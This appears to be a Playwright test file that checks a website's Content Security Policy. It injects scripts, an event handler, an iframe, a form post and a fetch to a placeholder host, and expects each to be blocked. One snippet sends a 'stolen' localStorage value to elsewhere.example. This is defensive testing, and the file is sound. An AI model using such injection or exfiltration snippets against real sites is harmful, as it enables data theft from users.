import type { Page } from '@playwright/test'
import { expect, test, untilAlive } from '../../journey.ts'

const ELSEWHERE = 'https://elsewhere.example'
const PROVIDER = 'https://www.paypal.com/checkoutnow?token=1'

/** What the page asked for and was refused by its own policy. */
const refusedOn = async (page: Page, action: (elsewhere: string) => void) => {
  await page.evaluate(() => {
    const refused: string[] = []
    Object.assign(window, { refused })
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      refused.push(effectiveDirective)
    })
  })
  await page.evaluate(action, ELSEWHERE)
  const refused = () => page.evaluate(() => Reflect.get(window, 'refused') as string[])
  await expect.poll(async () => (await refused()).length).toBeGreaterThan(0)
  return refused()
}

const forgetRefusals = (complaints: string[]) => {
  const kept = complaints.filter((line) => !/Content Security Policy|elsewhere\.example/.test(line))
  complaints.splice(0, complaints.length, ...kept)
}

const insertScript = () => {
  const script = document.createElement('script')
  script.textContent = 'window.taken = 1'
  document.body.append(script)
}
const setHandler = () => {
  document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.taken = 2">')
}
const fetchScript = (elsewhere: string) => {
  const script = document.createElement('script')
  script.src = `${elsewhere}/x.js`
  document.body.append(script)
}
const frame = (elsewhere: string) => {
  const window = document.createElement('iframe')
  window.src = elsewhere
  document.body.append(window)
}
const tell = (elsewhere: string) => {
  void fetch(`${elsewhere}/?stolen=${localStorage.length}`).catch(() => undefined)
}
const post = (elsewhere: string) => {
  const form = document.createElement('form')
  form.action = elsewhere
  form.method = 'post'
  document.body.append(form)
  form.submit()
}

for (const [what, action, directive] of [
  ['a script that somebody wrote into the page', insertScript, 'script-src-elem'],
  ['a handler that somebody wrote into the page', setHandler, 'script-src-attr'],
  ['a script from elsewhere', fetchScript, 'script-src-elem'],
  ['a frame of somebody else', frame, 'frame-src'],
  ['a call to somebody else', tell, 'connect-src'],
  ['a form that leads elsewhere', post, 'form-action'],
] as const)
  test(`K02 ${what} comes to nothing`, async ({ page, context, complaints }) => {
    const left: string[] = []
    await context.route(`${ELSEWHERE}/**`, (route) => {
      left.push(route.request().url())
      return route.abort()
    })
    await page.goto('/about-us')
    await untilAlive(page)
    expect(await refusedOn(page, action)).toContain(directive)
    expect(await page.evaluate(() => 'taken' in window)).toBe(false)
    expect(left).toEqual([])
    forgetRefusals(complaints)
  })

test('K03 a window of the payment provider can answer the page that opened it', async ({ page, context }) => {
  await context.route('https://www.paypal.com/**', (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: '<!doctype html><title>Pay</title><script>opener.postMessage("approved", "*")</script>',
    }),
  )
  await page.goto('/about-us')
  await untilAlive(page)
  const heard = page.evaluate(
    (provider) =>
      new Promise<string>((resolve) => {
        addEventListener('message', ({ data, origin }) => {
          resolve(`${String(data)} by ${origin}`)
        })
        open(provider, 'pay', 'popup')
      }),
    PROVIDER,
  )
  expect(await heard).toBe('approved by https://www.paypal.com')
})
